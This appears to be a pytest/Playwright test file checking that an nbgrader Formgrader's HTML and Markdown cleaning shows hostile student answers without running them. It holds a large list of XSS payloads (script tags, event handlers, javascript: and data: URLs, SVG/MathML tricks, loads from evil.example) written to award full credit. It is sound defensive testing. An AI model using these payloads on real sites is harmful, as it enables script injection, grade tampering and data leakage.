"""The real Formgrader in a real browser: hostile answers can be read, and nothing of them runs."""

import base64
import io
import json
import re
import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbgrader.api import Base
from PIL import Image
from playwright.sync_api import Browser, Page
from sqlalchemy import select

from grading.pages.clean import LONGEST_MARKDOWN, clean_html, clean_markdown, mathml
from tests.grading.course import ASSIGNMENT, ENVIRONMENT, NOTEBOOK, ROOT, CourseFolder

# What a script would do: leave a trace, ask, and give its author all points.
DO = "ran=1;alert(1);document.querySelectorAll('.full-credit').forEach(b=>b.click())"
ENCODED = base64.b64encode(f"<script>{DO}</script>".encode()).decode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{DO}"><script>{DO}</script></svg>'
HOSTILE = [
    f"<script>{DO}</script>",
    f"<SCRIPT\n>{DO}</SCRIPT >",
    '<script src="https://evil.example/x.js"></script>',
    f'<script type="module">{DO}</script>',
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f'<img src=x onerror="{DO}">',
    f"<img/src=`x`/onerror={DO}>",
    f'<IMG """><SCRIPT>{DO}</SCRIPT>">',
    f'<body onload="{DO}">',
    f'<input autofocus onfocus="{DO}">',
    f'<button class="full-credit" accesskey="x" onclick="{DO}">Next</button>',
    f'<details open ontoggle="{DO}"><summary>x</summary></details>',
    f'<video src=x onerror="{DO}"></video><audio src=x onerror="{DO}"></audio>',
    f'<style>@keyframes a{{}} *{{animation:a 1s}}</style><b onanimationstart="{DO}">x</b>',
    '<style>@import "https://evil.example/x.css";</style><b style="position:fixed;inset:0">x</b>',
    '<b style="background:url(https://evil.example/b.png)">x</b>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{DO}">',
    '<base href="https://evil.example/">',
    f'<iframe src="javascript:{DO}"></iframe>',
    f'<iframe srcdoc="<script>parent.ran=1;{DO}</script>"></iframe>',
    f'<iframe src="data:text/html;base64,{ENCODED}"></iframe>',
    f'<object data="data:text/html;base64,{ENCODED}"></object><embed src="https://evil.example/">',
    '<form action="https://evil.example/"><input name="a"><button>Full credit</button></form>',
    f"[click](javascript:{DO})",
    f'<a href="java&#115;cript:{DO}">click</a><a href="&#1;javascript:{DO}">click</a>',
    f"[click](data:text/html;base64,{ENCODED})",
    f"<a href=' JaVaScRiPt:{DO}' target=_self>click</a>",
    f"[click][a]\n\n[a]: javascript:{DO}",
    f"![x](javascript:{DO})",
    f'![x](x" onerror="{DO})',
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png) ![x](/logout) ![x](../../../logout)",
    '<img srcset="https://evil.example/pixel.png 2x" src="https:evil.example/b.png">',
    "<picture><source srcset='https://evil.example/c.png'><img></picture>",
    SVG,
    f'<svg><a xlink:href="javascript:{DO}"><text>x</text></a><animate onbegin="{DO}"/></svg>',
    f'<math href="javascript:{DO}"><mtext><style><img src=x onerror="{DO}"></style></mtext></math>',
    f'<math><mi//xlink:href="data:x,<script>{DO}</script>">',
    f"$\\href{{javascript:{DO}}}{{x}}$",
    f"$\\text{{<img src=x onerror=\"{DO}\">}}$",
    f'$\\class{{full-credit" onclick="{DO}}}{{x}} \\style{{position:fixed}}{{x}} \\require{{a}}$',
    f'$$\\mmlToken{{mi}}[onClick="{DO}"]{{x}} \\unicode{{60}}script\\unicode{{62}}$$',
    f'`````<img src=x onerror="{DO}">\nx\n`````\n\n~~~mermaid\nclick A "javascript:{DO}"\n~~~',
    f"<noscript><p title=\"</noscript><img src=x onerror='{DO}'>\"></noscript>",
    f"<textarea></textarea><title></title><xmp><img src=x onerror='{DO}'></xmp>",
    f"<template><script>{DO}</script></template><plaintext><script>{DO}</script>",
    f"<!--<img src='--><img src=x onerror=\"{DO}\">'>",
    f"<![CDATA[<script>{DO}</script>]]><?php <script>{DO}</script> ?>",
    f'<b id="formgrader" name="a" data-toggle="tooltip" title="<img onerror=\'{DO}\'>">x',
    '<div class="nbgrader_cell"><input class="score" id="in_words" value="9"></div>',
    f"</pre></div></body></html><script>{DO}</script>",
    f"<img alt='$x$' title=\"$'> <script>{DO}</script>$\">",
]
PER_NOTEBOOK = 9


def picture() -> str:
    """Return a red picture of 30 by 20 as base64."""
    data = io.BytesIO()
    Image.new("RGB", (30, 20), "red").save(data, "png")
    return base64.b64encode(data.getvalue()).decode()


PICTURE = picture()
ANSWER = """A [link](https://example.org/a?b=1&c=2), **bold**, `a<b`.

- one
- two

| a | b |
|---|---|
| 1 | 2 |

$x_i^2 < y$ and

$$\\sum_{i=1}^n \\frac{w_i}{2}$$

![pasted](attachment:my%20sketch.png) <img src="attachment:my sketch.png" width="300">
![beside](sketch.png)
"""
ODD_ATTACHMENTS = {
    "missing": ("![it](attachment:gone.png)", {}),
    "empty": ("![it](attachment:a.png)", {"a.png": {}}),
    "no picture": ("![it](attachment:a.png)", {"a.png": {"text/html": ENCODED}}),
    "no base64": ("![it](attachment:a.png)", {"a.png": {"image/png": '"><script>ran=1</script>'}}),
    "no text": ("![it](attachment:a.png)", {"a.png": {"image/png": 5}}),
    "list": ("![it](attachment:a.png)", ["a.png"]),
    "svg": ("![it](attachment:a.svg)",
            {"a.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()}}),
    "odd name": ("![it](attachment:%F0%9F%98%80%22onerror=.png)", {"😀\"onerror=.png": {
        "image/png": PICTURE}}),
    "half an address": ("![it](attachment:", {}),
}


@dataclass
class Formgrader:
    """A running server, and what the browser did that it should not."""

    address: str
    course: CourseFolder
    browser: Browser

    def page(self) -> tuple[Page, list[str]]:
        """Return a new page, and a list to which dialogs and foreign requests are added."""
        page, bad = self.browser.new_page(viewport={"width": 1280, "height": 900}), []
        page.on("dialog", lambda dialog: (bad.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: bad.append(str(error)))
        page.on("popup", lambda popup: bad.append(f"popup {popup.url}"))

        def route(route):
            url = route.request.url
            if url.startswith(self.address):
                route.continue_()
            else:
                bad.append(url)
                route.abort()

        page.route(re.compile("^(?!data:|blob:)"), route)
        return page, bad

    def open(self, student: str) -> tuple[Page, list[str]]:
        """Open the submission of a student and wait until its grades are there."""
        with self.course.gradebook() as gradebook:
            id = gradebook.find_submission(ASSIGNMENT, student).notebooks[0].id
        page, bad = self.page()
        answer = page.goto(f"{self.address}/formgrader/submissions/{id}/")
        assert answer.status == 200
        page.wait_for_function("formgrader.loaded && formgrader.grades.loaded")
        return page, bad


def hostile_notebook(course, texts):
    """Return an answered notebook with these texts as the written answer and in cells around it."""
    notebook = course.answered()
    for cell in notebook.cells:
        if cell.id == "in_words":
            cell.source = texts[0]
    notebook.cells += [nbformat.v4.new_markdown_cell(text) for text in texts[1:]]
    notebook.cells += [nbformat.v4.new_raw_cell(text) for text in texts]
    notebook.cells.append(nbformat.v4.new_code_cell(
        f"for text in {texts!r}:\n    print(text)\nraise ValueError({texts[0]!r})"
    ))
    return notebook


def put_outputs(course, student, texts):
    """Put outputs of every kind into the graded notebook, as a grading without a sandbox would."""
    path = course.folder / "autograded" / student / ASSIGNMENT / NOTEBOOK
    notebook = nbformat.read(path, as_version=4)
    kinds = ("text/html", "image/svg+xml", "application/javascript", "text/latex", "text/markdown",
             "text/vnd.mermaid", "image/png", "application/vnd.jupyter.widget-view+json")
    notebook.cells[-1].outputs += [
        nbformat.v4.new_output(
            form, data={kind: {"model_id": text} if "json" in kind else text},
            metadata={kind: {"isolated": True, "width": f"1 onload={DO}"}},
        ) for text in texts for kind in kinds for form in ("display_data", "execute_result")
    ]
    notebook.metadata["title"] = texts[0]
    notebook.metadata["language_info"] = {"name": texts[0], "pygments_lexer": texts[0]}
    state = {"state": {text: {} for text in texts}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    for cell in notebook.cells:
        cell.metadata["tags"] = [f'"><script>{DO}</script>']
    path.chmod(0o644)
    path.write_text(json.dumps(notebook))


@pytest.fixture(scope="module")
def course(released, tmp_path_factory) -> CourseFolder:
    """A graded class that tries what it can; nobody has marked anything by hand."""
    course = released.copy(tmp_path_factory.mktemp("formgrader") / "course")
    for first in range(0, len(HOSTILE), PER_NOTEBOOK):
        notebook = hostile_notebook(course, HOSTILE[first : first + PER_NOTEBOOK])
        course.submit(f"eve_{first:02}", notebook)
    decent = course.answered()
    cell = next(cell for cell in decent.cells if cell.id == "in_words")
    cell.source = ANSWER
    cell.attachments = {"my sketch.png": {"image/png": PICTURE}}
    folder = course.submit("dora", decent).parent
    (folder / "sketch.png").write_bytes(base64.b64decode(PICTURE))
    (folder / "evil.html").write_text(f"<script>{DO}</script>")
    for number, (source, attachments) in enumerate(ODD_ATTACHMENTS.values()):
        odd = course.answered()
        next(cell for cell in odd.cells if cell.id == "in_words").update(
            source=source, attachments=attachments
        )
        course.submit(f"odd_{number}", json.dumps(odd).encode())
    twice = course.answered()
    place = next(n for n, cell in enumerate(twice.cells) if cell.id == "in_words")
    twice.cells.append(twice.cells[place])
    course.submit("twice", twice)
    finished = course.command("grading", "autograde", ASSIGNMENT)
    assert finished.returncode == 0, finished.stdout + finished.stderr[-3000:]
    assert "0 not graded, 0 failed" in finished.stdout
    for first in range(0, len(HOSTILE), PER_NOTEBOOK):
        put_outputs(course, f"eve_{first:02}", HOSTILE[first : first + PER_NOTEBOOK])
    with course.gradebook() as gradebook:
        for student in gradebook.students:
            student.first_name = f"<img src=x onerror=\"{DO}\">"
            student.last_name = f"</script><script>{DO}</script>"
        gradebook.db.commit()
    return course


@pytest.fixture(scope="module")
def formgrader(course, browser, tmp_path_factory) -> Iterator[Formgrader]:
    """JupyterLab in the course folder, as the guide starts it, with nothing from this machine."""
    home = tmp_path_factory.mktemp("home")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    address = f"http://127.0.0.1:{port}"
    environment = {
        **ENVIRONMENT, "HOME": str(home), "JUPYTER_CONFIG_DIR": str(home / "config"),
        "JUPYTER_DATA_DIR": str(home / "data"), "IPYTHONDIR": str(home / "ipython"),
    }
    with (home / "log").open("w") as log:
        server = subprocess.Popen(
            [sys.executable, "-m", "jupyter", "lab", "--no-browser", "--allow-root",
             "--ServerApp.ip=127.0.0.1", f"--ServerApp.port={port}", "--ServerApp.port_retries=0",
             "--IdentityProvider.token=", f"--ServerApp.root_dir={course.folder}"],
            cwd=course.folder, env=environment, stdout=log, stderr=log,
        )
        try:
            for _ in range(600):
                try:
                    urllib.request.urlopen(f"{address}/api", timeout=5).close()
                    break
                except OSError:
                    assert server.poll() is None, (home / "log").read_text()
                    time.sleep(0.1)
            yield Formgrader(address, course, browser)
        finally:
            server.terminate()
            server.wait()


def everything(course):
    """Return all rows of the gradebook, and all graded files."""
    with course.gradebook() as gradebook:
        rows = {
            name: sorted(map(repr, gradebook.db.execute(select(table)).fetchall()))
            for name, table in Base.metadata.tables.items()
        }
    folder = course.folder / "autograded"
    return rows, {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}


# What is in the page and no part of nbgrader's own.
OF_STUDENTS = ".text_cell_render, .output_area, .nbgrader_cell .panel-body"
FORBIDDEN = (
    "script, style, iframe, object, embed, form, input, button, textarea, svg, link, meta, base, "
    "template, video, audio, [style], [id], [data-toggle], a[href^='data' i], a[href^='/'], "
    ".full-credit, .score, .nbgrader_cell"
)
LOOK = f"""() => [...document.querySelectorAll("{OF_STUDENTS}")].flatMap(place => [
    ...[...place.querySelectorAll("{FORBIDDEN}")]
        .filter(found => !found.closest(".course-report"))
        .map(found => found.outerHTML),
    ...[...place.querySelectorAll("*")].flatMap(found => [...found.attributes])
        .filter(({{name, value}}) => name.startsWith("on") || /^\\s*javascript:/i.test(value))
        .map(({{name, value}}) => name + value),
])"""


@pytest.mark.parametrize("first", range(0, len(HOSTILE), PER_NOTEBOOK))
def test_hostile_answers_do_nothing(formgrader, first):
    assert len(HOSTILE) >= 40
    before = everything(formgrader.course)
    page, bad = formgrader.open(f"eve_{first:02}")
    assert page.evaluate(LOOK) == []
    # All that a person may do while reading.
    for link in page.locator(f":is({OF_STUDENTS}) a").all():
        assert not link.get_attribute("href") or link.get_attribute("target") == "_blank"
    page.evaluate("scrollTo(0, document.body.scrollHeight)")
    page.evaluate("document.querySelectorAll('details').forEach(box => { box.open = true })")
    page.wait_for_timeout(300)
    assert page.evaluate("typeof ran") == "undefined"
    assert bad == []
    assert everything(formgrader.course) == before
    # Nothing is lost: what was left out can be read as it was typed.
    shown = page.locator("body").inner_text()
    assert HOSTILE[first].split("\n")[0].strip() in shown.replace("\xa0", " ")
    page.close()


def test_what_is_to_be_read_stays(formgrader):
    page, bad = formgrader.open("dora")
    answer = page.locator(".nbgrader_cell:has(#in_words) .text_cell_render")
    assert answer.locator("li").all_inner_texts() == ["one", "two"]
    assert answer.locator("td").all_inner_texts() == ["1", "2"]
    assert answer.locator("a").get_attribute("href") == "https://example.org/a?b=1&c=2"
    assert answer.locator("code").first.inner_text() == "a<b"
    pictures = answer.locator("img").evaluate_all(
        "all => Promise.all(all.map(img => img.decode().then(() => [img.naturalWidth, img.width])))"
    )
    assert [pictures[0], pictures[2]] == [[30, 30], [30, 30]]
    assert pictures[1][0] == 30
    assert 250 < pictures[1][1] <= 300
    formulas = answer.locator("math")
    assert formulas.count() == 2
    assert [formula.bounding_box()["height"] > 10 for formula in formulas.all()] == [True, True]
    assert formulas.nth(1).locator("mfrac mi").first.text_content() == "w"
    assert page.locator(".course-report .total").count() > 5
    # The name, which the page hides until it is asked for.
    assert page.locator("body > nav").text_content().count("<img src=x onerror=") == 1
    assert bad == []
    page.close()


@pytest.mark.parametrize("number", range(len(ODD_ATTACHMENTS)), ids=list(ODD_ATTACHMENTS))
def test_odd_attachments_are_no_reason_to_stop(formgrader, number):
    page, bad = formgrader.open(f"odd_{number}")
    assert bad == []
    assert page.evaluate("typeof ran") == "undefined"
    assert page.locator(".nbgrader_cell:has(#in_words) .text_cell_render").count() == 1
    page.close()


def test_feedback_shows_them_too(course):
    finished = course.command("grading", "feedback", ASSIGNMENT)
    assert finished.returncode == 0, finished.stdout + finished.stderr[-3000:]
    pages = sorted((course.folder / "feedback").glob(f"*/{ASSIGNMENT}/*.html"))
    assert len(pages) == -(-len(HOSTILE) // PER_NOTEBOOK) + len(ODD_ATTACHMENTS) + 2
    for path in pages:
        assert not re.search(r"<(script|iframe|object|form|svg|meta http)", path.read_text())
    shown = (course.folder / "feedback" / "dora" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert shown.count(f"data:image/png;base64,{PICTURE}") == 2
    assert shown.count("<math") == 2


def test_marks_can_be_given_by_the_keyboard(formgrader):
    page, _ = formgrader.open("dora")
    page.locator("#in_words").fill("3")
    with page.expect_response(re.compile("/api/grade/")) as saved:
        page.locator("#in_words").press("Tab")
    assert saved.value.status == 200
    with formgrader.course.gradebook() as gradebook:
        assert gradebook.find_grade(
            "in_words", ASSIGNMENT, ASSIGNMENT, "dora"
        ).manual_score == 3
    page.close()


def test_all_pages_without_another_host(formgrader):
    page, bad = formgrader.page()
    for place in ("manage_assignments", f"manage_submissions/{ASSIGNMENT}", "manage_students",
                  "manage_students/dora", f"manage_students/dora/{ASSIGNMENT}", "gradebook",
                  f"gradebook/{ASSIGNMENT}", f"gradebook/{ASSIGNMENT}/{ASSIGNMENT}"):
        assert page.goto(f"{formgrader.address}/formgrader/{place}").status == 200
        page.locator("#main-table tr").first.wait_for(timeout=10_000)
        page.wait_for_timeout(100)
    assert bad == []
    assert page.evaluate("typeof ran") == "undefined"
    page.close()


@pytest.mark.parametrize(("student", "works"), [("twice", False), ("odd_0", True)])
def test_the_autograde_button_removes_nothing(formgrader, student, works):
    before = everything(formgrader.course)
    page, bad = formgrader.page()
    page.goto(f"{formgrader.address}/formgrader/manage_submissions/{ASSIGNMENT}")
    row = page.locator("#main-table tr").filter(has=page.locator(
        ".student-id", has_text=re.compile(f"^{student}$")
    ))
    row.locator(".autograde a").click()
    page.locator(".modal-body").wait_for(timeout=60_000)
    said = page.locator(".modal-body").inner_text()
    if works:
        assert "successfully" in said.lower()
        assert formgrader.course.marks(student)["test_sigmoid"] == 4
        assert (formgrader.course.folder / "autograded" / student / ASSIGNMENT / NOTEBOOK).is_file()
    else:
        command = f"python -m grading autograde {ASSIGNMENT} --student {student} --force"
        assert command in said
        assert everything(formgrader.course) == before
    assert bad == []
    page.close()


# --- The cleaning itself --------------------------------------------------------------------------

@pytest.mark.parametrize("source", HOSTILE)
def test_cleaning_again_changes_nothing(source):
    once = clean_html(source)
    assert clean_html(once) == once
    for tag in BeautifulSoup(once, "html.parser").find_all(True):
        assert tag.name not in ("script", "iframe", "svg", "form", "style", "math", "meta")
        assert not {name for name in tag.attrs if name.startswith("on") or name in ("id", "style")}


PATTERNS = [
    "[", "![", "*a_ ", "**a", "<", "<a ", "`", ">", "- ", "- > ", "$", "$$", "\\begin{a}",
    "](", ")[",
    "|a\n|-\n", "[a](", "a\n=\n", "<!--", "<div>", "<b>", "&", "\\", "[^a]:", "1. ", "a*b_",
    "\n\t- ",
]


@pytest.mark.parametrize("pattern", PATTERNS)
def test_long_patterns_are_shown_in_bounded_room(pattern):
    source = (pattern * LONGEST_MARKDOWN)[:LONGEST_MARKDOWN]
    shown = clean_markdown(source, typed="As typed")
    assert len(shown) < 30 * LONGEST_MARKDOWN
    assert clean_markdown(source + "x").startswith("<pre>")


@pytest.mark.parametrize("formula", [
    "{" * 1500, "\\frac" * 300, "x^" * 300, "\\def\\x{\\x\\x}\\x", "\\left(" * 100, "a" * 3000, "_",
])
def test_what_is_no_formula_is_shown_as_typed(formula):
    assert mathml(formula) == f"<code>{formula}</code>"


def test_formulas_of_the_course_are_read():
    found = set()
    for path in sorted((ROOT / "exercises").glob("*/*/*.ipynb")):
        for cell in nbformat.read(path, 4).cells:
            if cell.cell_type == "markdown":
                shown = clean_markdown(cell.source)
                assert "<pre>" not in shown.replace("<pre><code>", "")
                found.update(re.findall(r"\$\$(.+?)\$\$", cell.source, re.DOTALL))
    assert len(found) > 20
    for formula in found:
        assert mathml(formula, "block").startswith('<math display="block">')
